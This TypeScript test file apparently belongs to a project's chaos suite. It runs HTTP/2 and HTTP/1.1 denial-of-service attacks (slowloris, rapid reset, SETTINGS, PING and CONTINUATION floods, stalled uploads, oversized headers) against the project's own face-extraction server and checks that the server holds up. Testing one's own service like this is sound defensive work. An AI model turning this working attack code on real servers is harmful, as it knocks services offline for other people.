/** HTTP/2 protocol attacks (items 2, 12, 14; §2: slowloris, rapid reset, floods, oversized headers, unread responses). */
import { once } from 'node:events';
import { readFace } from '../../../test/helpers/data.js';
import { CHAOS_TIMEOUTS, CLOSE_SLACK_SECONDS } from '../server-env.js';
import type { AttackContext } from '../types.js';
import type { Attack } from '../types.js';
import {
  connect, dataFrames, envelope, EXTRACT, extractRequest, FLAG, frame, FRAME, grpcHeaders, headerBlock, headersFrame,
  pbBytes, RawH2, rstStream, settings,
} from '../wire.js';
import { h1, h2session, holdOn, pool } from './util.js';

/** Writes `bytes` unless the socket is gone; waits for the socket to drain, up to the deadline. */
async function send(ctx: AttackContext, conn: RawH2, bytes: Buffer): Promise<boolean> {
  if (conn.closed || conn.socket.destroyed) return false;
  if (!conn.write(bytes)) {
    await Promise.race([once(conn.socket, 'drain').catch(() => undefined), once(conn.socket, 'close'), ctx.sleep(ctx.left())]);
  }
  return !conn.closed && ctx.left() > 0;
}

/** The server's SETTINGS_MAX_CONCURRENT_STREAMS (0x3), if it sent one. */
function maxConcurrentStreams(conn: RawH2): number | undefined {
  const s = conn.frames.find((f) => f.type === FRAME.SETTINGS && !(f.flags & FLAG.ACK));
  if (!s) return undefined;
  for (let at = 0; at + 6 <= s.payload.length; at += 6) if (s.payload.readUInt16BE(at) === 3) return s.payload.readUInt32BE(at + 2);
  return undefined;
}

/** Waits until every (connection, stream) pair has been ended by the server, or `ms` pass. */
async function waitEnded(ctx: AttackContext, pairs: [RawH2, number][], ms: number): Promise<number> {
  const until = Date.now() + ms;
  const count = () => pairs.filter(([c, s]) => c.ended(s)).length;
  while (count() < pairs.length && Date.now() < until && ctx.left() > 0) await ctx.sleep(100);
  return count();
}

export const slowlorisHttp2: Attack = {
  name: 'slowloris-http2',
  issue: '2, 12, §2',
  seconds: { quick: 5, full: 30 },
  async run(ctx) {
    const conns = ctx.pick(10, 100);
    const streams = ctx.pick(5, 10);
    const withStreams: RawH2[] = [];
    const idle: RawH2[] = [];
    await pool(ctx, conns, 20, async (i) => {
      const c = ctx.track(await RawH2.open(ctx.port));
      ctx.sent();
      if (i % 2 === 0) {
        idle.push(c);
        return;
      }
      withStreams.push(c);
      // gRPC calls whose DATA never comes.
      for (let k = 0; k < streams; k++) c.write(headersFrame(1 + 2 * k, grpcHeaders(EXTRACT, ctx.auth)));
      ctx.sent(streams);
    });
    const since = Date.now();
    const limit = (Math.max(CHAOS_TIMEOUTS.bodySeconds, CHAOS_TIMEOUTS.idleSeconds) + CLOSE_SLACK_SECONDS) * 1000;
    const pairs: [RawH2, number][] = withStreams.flatMap((c) => Array.from({ length: streams }, (_, k) => [c, 1 + 2 * k] as [RawH2, number]));
    const ended = await waitEnded(ctx, pairs, limit);
    const idleClosed = idle.filter((c) => c.closed || c.frames.some((f) => f.type === FRAME.GOAWAY)).length;
    const held = Date.now() - since;
    ctx.note(`streams without DATA ended by the server: ${ended} of ${pairs.length}; idle sessions closed: ${idleClosed} of ${idle.length}, after ${(held / 1000).toFixed(1)} s`);
    if (held >= limit) {
      ctx.expect(ended === pairs.length, `HTTP/2 streams whose DATA never comes are reset within ${limit / 1000} s: ${ended} of ${pairs.length}`);
      ctx.expect(idleClosed === idle.length, `idle HTTP/2 sessions are closed (GOAWAY) within ${limit / 1000} s: ${idleClosed} of ${idle.length}`);
    }
    await holdOn(ctx);
  },
};

export const headerOnlyStreams: Attack = {
  name: 'http2-header-only-streams',
  issue: '14',
  seconds: { quick: 4, full: 20 },
  async run(ctx) {
    const n = ctx.pick(1000, 5000);
    const c = ctx.track(await RawH2.open(ctx.port));
    for (let k = 0; k < n; k += 250) {
      const batch = Array.from({ length: Math.min(250, n - k) }, (_, j) => headersFrame(1 + 2 * (k + j), grpcHeaders(EXTRACT, ctx.auth)));
      if (!(await send(ctx, c, Buffer.concat(batch)))) break;
      ctx.sent(batch.length);
    }
    await ctx.sleep(Math.min(2000, ctx.left() - 500));
    const max = maxConcurrentStreams(c);
    const refused = new Set(c.frames.filter((f) => f.type === FRAME.RST_STREAM).map((f) => f.stream)).size;
    const goaway = c.closed || c.frames.some((f) => f.type === FRAME.GOAWAY);
    ctx.note(`server's max concurrent streams: ${max ?? 'unset'}; ${refused} streams reset; connection ${goaway ? 'closed' : 'open'}`);
    ctx.expect((max !== undefined && max < n) || refused > 0 || goaway,
      `streams per connection are bounded: ${n} header-only streams were all accepted (no stream limit, no reset)`);
  },
};

export const stalledHttp2Streams: Attack = {
  name: 'http2-stalled-uploads',
  issue: '14',
  seconds: { quick: 8, full: 45 },
  async run(ctx) {
    const streams = ctx.pick(6, 30);
    const mb = ctx.pick(20, 60);
    const session = h2session(ctx);
    const chunk = Buffer.alloc(1 << 20, 0x41);
    const opened: { closed: boolean }[] = [];
    await pool(ctx, streams, streams, async () => {
      const s = session.request({
        ':method': 'POST', ':path': EXTRACT, 'content-type': 'application/grpc', te: 'trailers', ...ctx.auth,
      }, { endStream: false });
      s.on('error', () => undefined);
      const state = { closed: false };
      const closed = once(s, 'close').then(() => { state.closed = true; });
      opened.push(state);
      ctx.sent();
      // A message that claims mb MB, of which all but the last byte is sent; then nothing.
      const head = Buffer.alloc(5);
      head.writeUInt32BE(mb << 20, 1);
      s.write(head);
      for (let i = 0; i < mb && !state.closed && ctx.left() > 0; i++) {
        if (!s.write(i === mb - 1 ? chunk.subarray(1) : chunk)) {
          await Promise.race([once(s, 'drain').catch(() => undefined), closed, ctx.sleep(ctx.left())]);
        }
      }
    });
    const since = Date.now();
    const limit = (CHAOS_TIMEOUTS.bodySeconds + CLOSE_SLACK_SECONDS) * 1000;
    while (Date.now() - since < limit && opened.some((s) => !s.closed) && ctx.left() > 0) await ctx.sleep(100);
    const closed = opened.filter((s) => s.closed).length;
    ctx.note(`${streams} streams of ${mb} MB stalled one byte short: ${closed} ended by the server after ${((Date.now() - since) / 1000).toFixed(1)} s`);
    if (Date.now() - since >= limit || closed === opened.length) {
      ctx.expect(closed === opened.length, `stalled HTTP/2 uploads are ended within ${limit / 1000} s: ${closed} of ${opened.length}`);
    }
  },
};

export const unreadResponses: Attack = {
  name: 'responses-never-read',
  issue: '14, §2',
  seconds: { quick: 4, full: 30 },
  async run(ctx) {
    const n = ctx.pick(100, 400);
    const bbt2 = readFace('face-api.js/examples/images/bbt2.jpg');
    // return_face_data (field 6) makes each answer about 20 KB of JPEG crops on top of the vectors.
    const message = envelope(Buffer.concat([extractRequest([bbt2]), Buffer.from([6 << 3, 1])]));
    // HTTP/2: a client that sends requests and never reads a byte (no SETTINGS ACK either).
    const c = ctx.track(await RawH2.open(ctx.port, true));
    // HTTP/1.1: pipelined requests on one connection, never read.
    const socket = ctx.track(await connect(ctx.port));
    const json = Buffer.from(JSON.stringify({ images: { data: [bbt2.toString('base64')] }, return_face_data: true }));
    const h1req = Buffer.concat([Buffer.from(`POST /extract HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n`
      + `Authorization: ${ctx.auth.authorization}\r\nContent-Length: ${json.length}\r\n\r\n`), json]);
    // Paced below the server's capacity (about 40 photos/s here), so the subject is unread answers, not overload.
    const every = Math.max(20, (ctx.left() * 0.6) / n);
    for (let i = 0; i < n && ctx.left() > 0; i++) {
      const stream = 1 + 2 * i;
      if (i % 4 === 3) {
        if (!socket.destroyed) socket.write(h1req);
      } else if (!c.closed) {
        c.write(Buffer.concat([headersFrame(stream, grpcHeaders(EXTRACT, ctx.auth)), dataFrames(stream, message, true)]));
      }
      ctx.sent();
      await ctx.sleep(every);
    }
    await ctx.sleep(Math.min(ctx.pick(1000, 2000), ctx.left() - 500));
    ctx.note(`HTTP/2 connection ${c.closed ? 'closed by the server' : 'still open'}; HTTP/1.1 connection ${socket.destroyed ? 'closed' : 'still open'}`);
  },
};

export const rapidReset: Attack = {
  name: 'http2-rapid-reset',
  issue: '§2 (held)',
  seconds: { quick: 4, full: 20 },
  async run(ctx) {
    const conns = ctx.pick(4, 20);
    const perConn = ctx.pick(1000, 10_000);
    await pool(ctx, conns, 4, async () => {
      const c = ctx.track(await RawH2.open(ctx.port));
      for (let k = 0; k < perConn && !c.closed && ctx.left() > 0; k += 500) {
        const batch: Buffer[] = [];
        for (let j = k; j < Math.min(perConn, k + 500); j++) {
          batch.push(headersFrame(1 + 2 * j, grpcHeaders(EXTRACT, ctx.auth)), rstStream(1 + 2 * j));
        }
        if (!(await send(ctx, c, Buffer.concat(batch)))) break;
        ctx.sent(batch.length / 2);
      }
      c.destroy();
    });
  },
};

/** Writes `count` copies of `unit` on `conns` connections that never read, as fast as TCP takes them. */
async function flood(ctx: AttackContext, conns: number, count: number, first: Buffer, unit: Buffer): Promise<void> {
  let closed = 0;
  await pool(ctx, conns, conns, async () => {
    const c = ctx.track(await RawH2.open(ctx.port, true));
    c.write(first);
    const batch = Buffer.concat(Array.from({ length: 100 }, () => unit));
    for (let k = 0; k < count && ctx.left() > 0; k += 100) {
      if (!(await send(ctx, c, batch))) break;
      ctx.sent(100);
    }
    await ctx.sleep(Math.min(500, ctx.left()));
    if (c.closed) closed++;
  });
  ctx.note(`${closed} of ${conns} flooding connections closed by the server`);
}

export const settingsFlood: Attack = {
  name: 'http2-settings-flood',
  issue: '§2 (held)',
  seconds: { quick: 4, full: 20 },
  run: (ctx) => flood(ctx, ctx.pick(2, 10), ctx.pick(10_000, 100_000), Buffer.alloc(0), settings([[4, 65535], [3, 100]])),
};

export const pingFlood: Attack = {
  name: 'http2-ping-flood',
  issue: '§2 (held)',
  seconds: { quick: 3, full: 20 },
  run: (ctx) => flood(ctx, ctx.pick(2, 10), ctx.pick(10_000, 100_000), Buffer.alloc(0), frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
};

export const continuationFlood: Attack = {
  name: 'http2-continuation-flood',
  issue: '§2 (held)',
  seconds: { quick: 3, full: 20 },
  run: (ctx) => flood(ctx, ctx.pick(2, 10), ctx.pick(2000, 20_000),
    // HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
    frame(FRAME.HEADERS, 0, 1, headerBlock(grpcHeaders(EXTRACT, ctx.auth))),
    frame(FRAME.CONTINUATION, 0, 1, headerBlock([['x-flood', 'a'.repeat(1000)]]))),
};

export const oversizedHeaders: Attack = {
  name: 'oversized-headers',
  issue: '§2 (held)',
  seconds: { quick: 4, full: 20 },
  async run(ctx) {
    const big = 'a'.repeat(100 * 1024);
    const n = ctx.pick(3, 30);
    for (let i = 0; i < n && ctx.left() > 0; i++) {
      const a = await h1(ctx, { method: 'GET', path: '/healthz', headers: { 'x-big': big }, timeoutMs: 5000 });
      ctx.sent();
      ctx.expect(a.status === 431, `HTTP/1.1 with a 100 KB header: 431 (got ${a.status ?? a.error})`);
      const b = await h1(ctx, { path: '/extract', headers: { ...ctx.auth, 'content-type': 'application/json', 'x-big': big }, body: '{}', timeoutMs: 5000 });
      ctx.sent();
      ctx.expect(b.status === 431, `POST /extract with a 100 KB header: 431 (got ${b.status ?? b.error})`);
      // HTTP/2: a 100 KB header block in HEADERS + CONTINUATION frames.
      const c = ctx.track(await RawH2.open(ctx.port));
      const block = headerBlock([...grpcHeaders(EXTRACT, ctx.auth), ['x-big', big]]);
      const frames: Buffer[] = [];
      for (let at = 0; at < block.length; at += 16384) {
        const last = at + 16384 >= block.length;
        frames.push(frame(at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, last ? FLAG.END_HEADERS : 0, 1, block.subarray(at, at + 16384)));
      }
      c.write(Buffer.concat([...frames, dataFrames(1, envelope(pbBytes(1, pbBytes(1, Buffer.alloc(0)))), true)]));
      ctx.sent();
      const until = Date.now() + 5000;
      while (!c.ended(1) && Date.now() < until && ctx.left() > 0) await ctx.sleep(20);
      ctx.expect(c.ended(1), 'HTTP/2 with a 100 KB header block: the stream or connection is ended');
      c.destroy();
    }
  },
};
